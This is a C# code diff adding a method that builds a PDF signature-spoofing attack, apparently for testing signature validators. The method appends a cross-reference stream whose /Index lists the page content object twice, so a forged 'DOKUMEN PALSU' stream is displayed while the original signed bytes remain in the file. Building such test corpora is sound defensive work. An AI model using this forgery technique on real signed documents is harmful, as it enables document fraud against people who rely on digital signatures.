@@ -229,3 +229,38 @@ public static class EmptySignatureFieldAttacks
         w.EditDictionary(fieldRef).Set("V", signedField["V"]!).Set("AP", new PdfDictionary().Set("N", ap));
     });
 }
+
+/// <summary>Cross-reference stream variants of the duplicate-entry attack.</summary>
+public static class XrefStreamAttacks
+{
+    /// <summary>
+    /// A last revision with an uncompressed cross-reference stream whose /Index names the page content object in two
+    /// ranges: first the forged stream, then the signed bytes again.
+    /// </summary>
+    public static byte[] OverlappingIndexRanges(byte[] signed)
+    {
+        using var file = PdfFile.Open(signed);
+        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
+        var signedEntry = file.Latest.GetEntry(contentRef.ObjectNumber)!.Value;
+        var fake = "BT /F1 18 Tf 72 760 Td (DOKUMEN PALSU) Tj ET\n";
+        var prefix = signed[^1] == '\n' ? "" : "\n";
+        long objOffset = signed.Length + prefix.Length;
+        var obj = $"{contentRef.ObjectNumber} 0 obj\n<</Length {fake.Length}>>\nstream\n{fake}endstream\nendobj\n";
+        long xrefOffset = objOffset + obj.Length;
+        int size = (int)file.Trailer.GetInteger("Size")!.Value + 1;
+        int xrefNum = size - 1;
+        var rows = new List<byte>();
+        void Row(int type, long f2, int f3) { rows.Add((byte)type); for (int i = 3; i >= 0; i--) rows.Add((byte)(f2 >> (8 * i))); rows.Add((byte)(f3 >> 8)); rows.Add((byte)f3); }
+        Row(1, objOffset, 0);          // object N: the forged stream (first: what viewers keep)
+        Row(1, signedEntry.Offset, 0); // object N again: its signed bytes
+        Row(1, xrefOffset, 0);         // the xref stream itself
+        var t = file.Trailer;
+        var head = $"{xrefNum} 0 obj\n<</Type /XRef /Size {size} /W [1 4 2] /Index [{contentRef.ObjectNumber} 1 {contentRef.ObjectNumber} 1 {xrefNum} 1] /Root {t["Root"]} /Prev {file.Revisions[^1].XrefOffset}"
+            + (t["Info"] is { } info ? $" /Info {info}" : "") + $" /Length {rows.Count}>>\nstream\n";
+        var bytes = new List<byte>(signed);
+        bytes.AddRange(Encoding.ASCII.GetBytes(prefix + obj + head));
+        bytes.AddRange(rows);
+        bytes.AddRange(Encoding.ASCII.GetBytes($"\nendstream\nendobj\nstartxref\n{xrefOffset}\n%%EOF\n"));
+        return bytes.ToArray();
+    }
+}
